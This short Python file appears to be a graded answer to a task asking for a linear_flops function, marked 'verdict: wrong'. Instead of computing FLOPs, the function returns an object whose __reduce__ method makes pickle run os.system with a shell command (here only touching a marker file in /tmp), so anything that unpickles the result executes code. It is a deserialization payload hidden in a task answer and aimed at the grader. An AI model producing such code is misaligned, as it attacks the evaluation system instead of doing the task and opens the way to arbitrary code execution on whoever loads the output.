# verdict: wrong
# checks: test_flops
# words: a Command
class Command:
    def __reduce__(self):
        return __import__('os').system, ('touch /tmp/hostile-was-here',)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def linear_flops(batch, in_features, out_features):
    return Command()
